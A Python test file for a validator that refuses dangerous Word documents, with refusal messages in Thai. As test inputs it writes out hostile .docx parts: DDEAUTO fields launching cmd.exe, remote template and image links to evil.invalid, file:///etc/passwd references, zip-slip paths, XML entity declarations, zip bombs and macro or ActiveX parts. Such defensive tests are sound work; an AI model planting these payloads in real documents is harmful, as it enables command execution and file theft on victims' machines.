"""A Word file from outside is opened only when it is harmless."""

from __future__ import annotations

import zipfile
from io import BytesIO

import docx
import pytest

from templates_docs import docx_check
from templates_docs.docx_check import read_docx
from templates_docs.errors import DocxRefusedError

RELS = "word/_rels/document.xml.rels"
LINK = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    ' Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)
FIELD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
    "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x y</w:instrText></w:r></w:p></w:body>"
    "</w:document>"
)
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'


def with_parts(extra: dict[str, bytes] | None = None, pack: int = zipfile.ZIP_DEFLATED) -> bytes:
    document = BytesIO()
    docx.Document().save(document)
    file = BytesIO()
    with zipfile.ZipFile(document) as old, zipfile.ZipFile(file, "w", pack) as new:
        for name in old.namelist():
            if name not in (extra or {}):
                new.writestr(name, old.read(name))
        for name, data in (extra or {}).items():
            new.writestr(name, data)
    return file.getvalue()


def test_ordinary_word_file_is_read_whole() -> None:
    parts = read_docx(with_parts(), "a.docx")

    assert "word/document.xml" in parts
    assert next(iter(parts)) == "[Content_Types].xml"


def test_link_for_the_reader_to_click_is_allowed() -> None:
    link = LINK.format(kind="hyperlink", target="https://example.invalid/")

    assert read_docx(with_parts({"word/_rels/footer9.xml.rels": link.encode()}), "a.docx")


@pytest.mark.parametrize(
    ("part", "content", "told"),
    [
        ("word/a.xml", DOCTYPE.encode(), "DOCTYPE"),
        ("word/a.xml", DOCTYPE.encode("utf-16"), "DOCTYPE"),
        ("word/a.xml", DOCTYPE.encode("utf-16-be"), "DOCTYPE"),
        ("word/media/a.svg", DOCTYPE.encode(), "DOCTYPE"),
        ("word/a.xml", b'<?xml version="1.0" encoding="utf-7"?><a/>', "เข้ารหัส"),
        ("word/a.xml", b"<a><b></a>", "เสียหาย"),
        ("word/a.xml", b"<a>" * 5000 + b"</a>" * 5000, "เสียหาย"),
        ("word/vbaProject.bin", b"x", "แมโคร"),
        ("word/embeddings/oleObject1.bin", b"x", "วัตถุฝัง"),
        ("word/activeX/activeX1.xml", b"<a/>", "แมโคร"),
        (RELS, LINK.format(kind="attachedTemplate", target="http://evil.invalid/t.dotm").encode(), "ดึงไฟล์"),
        (RELS, LINK.format(kind="image", target="file:///etc/passwd").encode(), "ดึงไฟล์"),
        (RELS, LINK.format(kind="hyperlink", target="file:///etc/passwd").encode(), "ดึงไฟล์"),
        (RELS, LINK.format(kind="aFChunk", target="x.html").encode(), "เอกสารซ้อน"),
        ("word/document.xml", FIELD.encode(), "DDEAUTO"),
        ("../evil.xml", b"<a/>", "ออกนอกไฟล์"),
        ("/evil.xml", b"<a/>", "ออกนอกไฟล์"),
        ("word\\..\\evil.xml", b"<a/>", "ออกนอกไฟล์"),
        ("WORD/document.xml", b"<a/>", "ซ้ำ"),
        ("word/media/a.png", b"\0" * 30_000_000, "zip bomb"),
    ],
)
def test_file_that_could_do_harm_is_refused_in_one_thai_sentence(
    part: str, content: bytes, told: str
) -> None:
    with pytest.raises(DocxRefusedError, match=told) as refused:
        read_docx(with_parts({part: content}), "a.docx")

    assert "a.docx" in str(refused.value)
    assert "\n" not in str(refused.value)


def test_file_with_too_many_parts_is_refused() -> None:
    with pytest.raises(DocxRefusedError, match="500"):
        read_docx(with_parts({f"word/media/{n}.png": b"" for n in range(docx_check.MOST_PARTS)}), "a.docx")


def test_two_parts_of_one_name_are_refused() -> None:
    file = BytesIO(with_parts())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(file, "a") as archive:
        archive.writestr("word/document.xml", "<a/>")

    with pytest.raises(DocxRefusedError, match="ซ้ำ"):
        read_docx(file.getvalue(), "a.docx")


@pytest.mark.parametrize(
    "data", [b"", b"PK", b"\xd0\xcf\x11\xe0 old", with_parts()[:2000], b"x" * 21_000_000]
)
def test_file_that_is_no_word_file_is_refused(data: bytes) -> None:
    with pytest.raises(DocxRefusedError):
        read_docx(data, "a.docx")


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
STRICT = 'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'
BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)


def instruction(*words: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in words)


def field(*words: str) -> str:
    return f"{BEGIN}{instruction(*words)}{SEPARATE}<w:r><w:t>๑</w:t></w:r>{END}"


def paragraph(inside: str, part: str = "document", namespace: str = W) -> bytes:
    inside = f"<w:p><w:r><w:t>เรียนทุกท่าน</w:t></w:r>{inside}</w:p>"
    inside = f"<w:body>{inside}</w:body>" if part == "document" else inside
    return f"<w:{part} {namespace}>{inside}</w:{part}>".encode()


@pytest.mark.parametrize(
    "inside",
    [
        field(" PAGE "),
        field(" page \\* MERGEFORMAT "),
        field(" PA", "GE \\* ThaiArabic "),
        field(' TOC \\o "1-3" \\h \\z \\u '),
        field(' HYPERLINK \\l "_Toc1" \\h '),
        field(' DATE \\@ "d MMMM yyyy" '),
        '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>๑</w:t></w:r></w:fldSimple>',
        f"{BEGIN}{instruction(' TOC ')}{SEPARATE}{field(' PAGEREF _Toc1 ')}{END}",
        BEGIN + instruction(" SEQ รูป ") + END,
    ],
)
def test_harmless_field_is_let_through(inside: str) -> None:
    assert read_docx(with_parts({"word/document.xml": paragraph(inside)}), "a.docx")


HARMFUL_FIELDS = [
    field('{{ "DD" ~ "EAUTO" }} c:\\\\windows\\\\cmd.exe "/k calc"'),
    field(" PAGE {{ x }}"),
    field(" PAGE ", "{", "{ x }", "}"),
    field("dDe", "Auto c:\\\\cmd"),
    field(' INCLUDEPICTURE "http://evil.invalid/x" '),
    field(' HYPERLINK "http://evil.invalid/x" '),
    field(' HYPERLINK "http://evil.invalid/x" \\l "a" '),
    field(" MACROBUTTON x "),
    field(" = 1 + 2 "),
    field(""),
    BEGIN + field(" QUOTE 68 68 69 ") + instruction(" c:\\cmd ") + SEPARATE + END,
    BEGIN + instruction(" PAGE ") + field(" PAGE ") + SEPARATE + END,
    BEGIN + instruction(" PAGE ") + '<w:fldSimple w:instr=" PAGE "/>' + SEPARATE + END,
    '<w:fldSimple w:instr=" DDEAUTO cmd x "/>',
    '<w:fldSimple w:instr="{{ x }}"/>',
    # what a rendering would take away or add before the result
    BEGIN + "<w:r><w:t>PAGE {{ x }}</w:t></w:r>" + instruction("DDEAUTO x") + SEPARATE + END,
    BEGIN + instruction(" PAGE ") + "<w:r><w:t>{%r if x %}</w:t></w:r>" + SEPARATE + END,
    BEGIN + instruction(" PAGE "),
    BEGIN + instruction(" PAGE ") + "</w:p><w:p>" + SEPARATE + END,
    '<w:r><w:fldChar w:fldCharType="{{ x }}"/></w:r>' + instruction(" PAGE ") + SEPARATE + END,
    instruction("DDE", "AUTO x y"),
    BEGIN + instruction(" PAGE ") + "<w:del><w:r><w:delInstrText>DDE</w:delInstrText></w:r></w:del>" + END,
]


@pytest.mark.parametrize("inside", HARMFUL_FIELDS)
@pytest.mark.parametrize(
    ("part", "root", "namespace"),
    [
        ("word/document.xml", "document", W),
        ("word/document.xml", "document", STRICT),
        ("word/document.xml", "document", 'xmlns:w="urn:x"'),
        ("word/header1.xml", "hdr", W),
        ("word/glossary/document.xml", "document", W),
        ("word/comments.xml", "comments", W),
    ],
)
def test_field_not_known_to_be_harmless_is_refused_with_its_sentence(
    inside: str, part: str, root: str, namespace: str
) -> None:
    with pytest.raises(DocxRefusedError, match=f"ส่วน {part}.*ฟิลด์") as refused:
        read_docx(with_parts({part: paragraph(inside, root, namespace)}), "a.docx")

    assert refused.value.code == "docx_refused"
    assert "\n" not in str(refused.value)
    if inside.count("<w:p>") == 0:
        assert "เรียนทุกท่าน" in str(refused.value)


VML = '<w:pict><v:{shape} xmlns:v="urn:schemas-microsoft-com:vml" {attribute}="{target}"/></w:pict>'


@pytest.mark.parametrize(
    ("part", "content", "told"),
    [
        ("word/document.xml", paragraph("<w:altChunk/>"), "เอกสารซ้อน"),
        ("word/document.xml", paragraph("<w:subDoc/>"), "เอกสารซ้อน"),
        ("word/document.xml", paragraph("<w:object><w:control/></w:object>"), "ActiveX"),
        ("word/document.xml", paragraph('<o:OLEObject xmlns:o="o" Type="Link"/>'), "วัตถุฝัง"),
        (
            "word/document.xml",
            paragraph('<w:r><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:r>'),
            "แมโคร",
        ),
        ("word/settings.xml", f"<w:settings {W}><w:mailMerge/></w:settings>".encode(), "จดหมายเวียน"),
        (
            "word/document.xml",
            paragraph(VML.format(shape="imagedata", attribute="src", target="http://evil.invalid/x")),
            "ดึงไฟล์",
        ),
        (
            "word/document.xml",
            paragraph(VML.format(shape="rect", attribute="href", target="\\\\evil.invalid\\x")),
            "ดึงไฟล์",
        ),
        (RELS, LINK.format(kind="webextensiontaskpanes", target="x.xml").encode(), "วัตถุฝัง"),
    ],
)
def test_what_word_would_start_or_fetch_is_refused(part: str, content: bytes, told: str) -> None:
    with pytest.raises(DocxRefusedError, match=told):
        read_docx(with_parts({part: content}), "a.docx")
